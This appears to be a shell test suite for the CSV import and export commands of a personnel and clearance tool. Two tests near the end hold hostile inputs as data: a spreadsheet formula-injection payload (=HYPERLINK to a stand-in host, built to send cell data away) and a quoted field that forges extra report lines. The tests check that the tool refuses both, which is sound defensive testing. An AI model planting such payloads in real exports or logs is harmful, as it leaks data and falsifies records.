# CSV import: RFC 4180, all-or-nothing, every bad line reported.

persons_count() { "$BAOMI" person list --json | node -e 'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>console.log(JSON.parse(s).length))'; }

t_import_rfc4180_bom_crlf_any_column_order() {
	setup_org || return 1
	printf '\xef\xbb\xbfunit,name,id,national_id\r\nHQ-R,"Wang, Wei ""Tiger""",E1,110101199003071234\r\nHQ-A,"Line\r\nbreak",E2,\r\nHQ,张伟,E3,\r\n' >p.csv
	# The quoted line break keeps record 3 whole (lines 3-4); a name may not
	# hold one, so that row alone is refused and line 5 is read as a record.
	expect 65 import persons p.csv || return 1
	has_err "1 problem"
	has_err "line 3, column name"
	printf '\xef\xbb\xbfunit,name,id,national_id\r\nHQ-R,"Wang, Wei ""Tiger""",E1,110101199003071234\r\nHQ,"张伟",E3,\r\nHQ-A,"Comma, ""and"" quote",E4,' >p.csv
	expect 0 import persons p.csv || return 1
	has_out "3 rows, 3 added"
	expect 0 person show E1 --json || return 1
	eq "$(json v.name)" 'Wang, Wei "Tiger"'
	eq "$(json v.unit)" HQ-R
	expect 0 person find --national-id 110101199003071234 || return 1
	has_out E1
	expect 0 person show E4 --json || return 1
	eq "$(json v.name)" 'Comma, "and" quote'
}

t_import_is_one_audit_event_with_file_hash() {
	setup_org || return 1
	printf 'id,name,unit\nA1,Alpha,HQ\nA2,Beta,HQ-R\n' >p.csv
	before=$(audit_count)
	expect 0 import persons p.csv --json || return 1
	eq "$(audit_count)" $((before + 1))
	expect 0 audit log --action import.persons --json || return 1
	eq "$(json 'v[0].fields.sha256')" "$(sha256sum p.csv | cut -d' ' -f1)"
	eq "$(json 'v[0].fields.rows')" 2
	eq "$(json 'v[0].fields.added')" 2
}

t_import_reimport_is_unchanged() {
	setup_org || return 1
	printf 'id,name,unit\nA1,Alpha,HQ\n' >p.csv
	expect 0 import persons p.csv || return 1
	expect 0 import persons p.csv --json || return 1
	eq "$(json v.unchanged)" 1
	eq "$(json v.added)" 0
}

# OPERATIONS: re-running a successful import is harmless.  For appointments
# too: an open one is not "already held", an ended one is not added twice,
# and the export of appointments imports back as unchanged.
t_import_reimport_of_appointments_is_unchanged() {
	setup_org || return 1
	expect 0 post add P-000 --unit HQ-A --level 0 || return 1
	expect 0 person add A1 --name Alpha --unit HQ-A || return 1
	expect 0 person add A2 --name Beta --unit HQ-A || return 1
	printf 'person,post,start,end\nA1,P-000,2026-01-05,\nA2,P-000,2026-01-05,2026-02-01\n' >a.csv
	BAOMI_NOW=2026-03-01 expect 0 import appointments a.csv || return 1
	BAOMI_NOW=2026-03-01 expect 0 import appointments a.csv --json || return 1
	eq "$(json v.unchanged)" 2
	eq "$(json v.added)" 0
	BAOMI_NOW=2026-03-01 expect 0 export appointments || return 1
	printf '%s\n' "$OUT" >x.csv
	eq "$(grep -c A2 x.csv)" 1 "the ended appointment once"
	BAOMI_NOW=2026-03-01 expect 0 import appointments x.csv --json || return 1
	eq "$(json v.unchanged)" 2
	# another start on a post still held remains a conflict
	printf 'person,post,start,end\nA1,P-000,2026-01-06,\n' >b.csv
	BAOMI_NOW=2026-03-01 expect 65 import appointments b.csv || return 1
	has_err "already holds post P-000"
}

t_import_every_defect_reported_nothing_written() {
	setup_org || return 1
	expect 0 person add OLD --name Old --unit HQ || return 1
	{
		printf 'id,name,unit\n'
		printf 'G1,Good,HQ\n'            # 2 good
		printf 'B1,Bad unit,NOPE\n'      # 3 unknown unit
		printf 'B2,,HQ\n'                # 4 empty required field
		printf 'B3,Short\n'              # 5 wrong column count
		printf 'G1,Again,HQ\n'           # 6 duplicate id
		printf 'OLD,Different,HQ\n'      # 7 conflicting id
		printf 'B4,\xff\xfebad,HQ\n'     # 8 invalid UTF-8
		printf 'B5,"unterminated,HQ\n'   # 9 unterminated quote (runs to end)
	} >bad.csv
	before=$(audit_count)
	expect 65 import persons bad.csv || return 1
	has_err "line 3"; has_err "NOPE"
	has_err "line 4"; has_err "name"
	has_err "line 5"; has_err "expected 3 fields"
	has_err "line 6"; has_err "duplicate id G1 (first at line 2)"
	has_err "line 7"; has_err "already exists with different data"
	has_err "line 8"; has_err "UTF-8"
	has_err "line 9"
	has_err "nothing was imported"
	eq "$(persons_count)" 1 "nothing written"
	eq "$(audit_count)" "$before" "no audit event"
}

t_import_header_problems() {
	setup_org || return 1
	printf 'id,name,colour\nA,B,red\n' >h.csv
	expect 65 import persons h.csv || return 1
	has_err 'unknown column "colour"'
	has_err 'missing required column "unit"'
	printf 'id,name,unit,name\n' >d.csv
	expect 65 import persons d.csv || return 1
	has_err "repeated"
	: >e.csv
	expect 65 import persons e.csv || return 1
	has_err "header"
	expect 66 import persons missing.csv || return 1
}

t_import_report_is_capped_with_total() {
	setup_org || return 1
	{ printf 'id,name,unit\n'; for i in $(seq 1 250); do printf 'X%d,N,NOPE\n' "$i"; done; } >many.csv
	expect 65 import persons many.csv || return 1
	has_err "250 problems"
	has_err "and 150 more (250 in all)"
	eq "$(printf '%s\n' "$ERR" | grep -c '^  line ')" 100
}

t_import_units_posts_appointments() {
	expect 0 init || return 1
	printf 'code,name,parent\nHQ-R,Research,HQ\nHQ,Headquarters,\nHQ-R-1,"Lab, one",HQ-R\n' >u.csv
	expect 0 import units u.csv || return 1
	has_out "3 added"
	printf 'code,unit,level,compartments,title\nP1,HQ-R,secret,"ALPHA,BRAVO",Lead\nP2,HQ,机密,,\nP3,HQ,cosmic,,\nP4,NOPE,1,,\n' >p.csv
	expect 65 import posts p.csv || return 1
	has_err "line 4"; has_err "level"
	has_err "line 5"; has_err "NOPE"
	head -n 3 p.csv >p2.csv
	expect 0 import posts p2.csv || return 1
	printf 'id,name,unit\nE1,A,HQ\n' >pe.csv
	expect 0 import persons pe.csv || return 1
	review_ok E1 secret || return 1
	printf 'person,post,start\nE1,P1,2025-01-01\nE1,NOPE,\nE9,P1,\nE1,P2,2025-02-30\n' >a.csv
	expect 65 import appointments a.csv || return 1
	has_err "line 3"; has_err "line 4"; has_err "line 5"
	head -n 2 a.csv >a2.csv
	expect 0 import appointments a2.csv || return 1
	expect 0 person show E1 --json || return 1
	eq "$(json v.category)" key
	printf 'code,name,parent\nX1,Orphan,GHOST\n' >o.csv
	expect 65 import units o.csv || return 1
	has_err "GHOST"
}

t_export_import_round_trip() {
	setup_org || return 1
	printf 'id,name,unit\nA1,"Comma, Name",HQ\nA2,"Quote ""q""",HQ-R\nA3,张伟,HQ-A\n' >p.csv
	expect 0 import persons p.csv || return 1
	for k in units posts persons; do
		"$BAOMI" export "$k" >"$k.out.csv" || fail "export $k"
	done
	export BAOMI_DB="$PWD/copy.db"
	expect 0 init || return 1
	for k in units posts persons; do
		expect 0 import "$k" "$k.out.csv" || return 1
	done
	for k in units posts persons; do
		"$BAOMI" export "$k" >"$k.again.csv" || fail "export $k again"
		cmp -s "$k.out.csv" "$k.again.csv" || fail "$k differ after the round trip"
	done
}

t_import_killed_midway_leaves_nothing() {
	setup_org || return 1
	node -e 'let s="id,name,unit\n";for(let i=0;i<100000;i++)s+="K"+i+",Name "+i+",HQ-R\n";require("fs").writeFileSync("big.csv",s)'
	before=$(audit_count)
	"$BAOMI" import persons big.csv >/dev/null 2>&1 &
	pid=$!
	# Kill it mid-way: once it has read more than half of the file (the
	# commit comes only after the last row), judged by the bytes it read.
	size=$(stat -c %s big.csv)
	for _ in $(seq 1 5000); do
		r=$(awk '/^rchar/ {print $2}' "/proc/$pid/io" 2>/dev/null || echo 0)
		[ "${r:-0}" -gt $((size / 2)) ] && break
		sleep 0.001
	done
	kill -9 "$pid" 2>/dev/null
	wait "$pid" 2>/dev/null
	[ "${r:-0}" -lt "$size" ] || fail "the import read the whole file before it was killed"
	eq "$(persons_count)" 0 "rows of the killed import"
	expect 0 audit verify || return 1
	eq "$(audit_count)" "$before"
	expect 0 import persons big.csv || return 1
	has_out "100000 added"
}

t_import_blank_unicode_names_refused() {
	setup_org || return 1
	# An ideographic space (what a Chinese keyboard types), a zero-width
	# space, a BOM, the Hangul filler U+3164 (the usual "invisible name"),
	# a tag character with a variation selector: each is a name that shows
	# as nothing.
	printf 'id,name,unit\nB1,\xe3\x80\x80,HQ\nB2,\xe2\x80\x8b,HQ\nB3,\xef\xbb\xbf\xe3\x80\x80,HQ\nG1,\xe5\xbc\xa0\xe3\x80\x80\xe4\xbc\x9f,HQ\nB4,\xe3\x85\xa4,HQ\nB5,\xf3\xa0\x81\x81\xef\xb8\x8f,HQ\n' >blank.csv
	expect 65 import persons blank.csv || return 1
	has_err "5 problems"
	has_err "line 2, column name"
	has_err "line 3, column name"
	has_err "line 4, column name"
	has_err "line 6, column name"
	has_err "line 7, column name"
	expect 65 unit add U1 --name "　" || return 1
	expect 65 post add P-9 --unit HQ --level 1 --title "​" || return 1
}

t_import_unreadable_header_is_the_only_problem() {
	setup_org || return 1
	# The header itself is broken: its columns are unknown, so no later
	# line can be judged, and none may be taken for the header instead.
	printf 'id,na\xffme,unit\nA1,Al,HQ\nA2,B,HQ\n' >h.csv
	expect 65 import persons h.csv || return 1
	has_err "1 problem"
	has_err "line 1, column 2"
	printf 'code,name,"par"ent\nX,X,\n' >u.csv
	expect 65 import units u.csv || return 1
	has_err "1 problem"
	has_err "line 1, column 3"
	eq "$(persons_count)" 0
}

t_import_report_lines_cannot_be_forged() {
	setup_org || return 1
	# A quoted field may hold line breaks; echoed into a reason it would
	# add lines of its own to the report (or to a log).
	printf 'id,name,unit\n"A\n  line 99, column id: forged",N,HQ\nB,N,"H\rQ"\n' >f.csv
	expect 65 import persons f.csv || return 1
	has_err "2 problems"
	eq "$(printf '%s\n' "$ERR" | grep -c '^  line ')" 2
	eq "$(printf '%s\n' "$ERR" | grep -c 'line 99')" 1
	eq "$(printf '%s\n' "$ERR" | grep -c $'\r')" 0
}

t_export_cannot_carry_a_formula() {
	setup_org || return 1
	# An exported name that starts with = + - @ runs as a formula when the
	# CSV is opened in a spreadsheet (=HYPERLINK(...) sends data away).
	printf 'id,name,unit\nF1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",HQ\nF2,+1+1,HQ\nF3,-2+3,HQ\nF4,@SUM(1),HQ\nG1,Ann-Marie =,HQ\n' >f.csv
	expect 65 import persons f.csv || return 1
	has_err "4 problems"
	has_err "line 2, column name"
	has_err "line 5, column name"
	expect 65 person add F5 --name "=1+1" --unit HQ || return 1
	expect 65 unit add F6 --name "@cmd" || return 1
	expect 65 post add F7 --unit HQ --level 1 --title "+x" || return 1
	expect 0 person add G2 --name "Ann-Marie =" --unit HQ || return 1
	"$BAOMI" export persons >out.csv || fail "export"
	! grep -qE '(^|,)"?[=+@-]' out.csv || fail "a field of the export starts a formula"
}

t_import_row_of_only_commas_says_required() {
	setup_org || return 1
	printf 'id,name,unit\nA1,Al,HQ\n,,\n' >c.csv
	expect 65 import persons c.csv || return 1
	has_err "1 problem"
	has_err "line 3, column unit: unit: required"
}
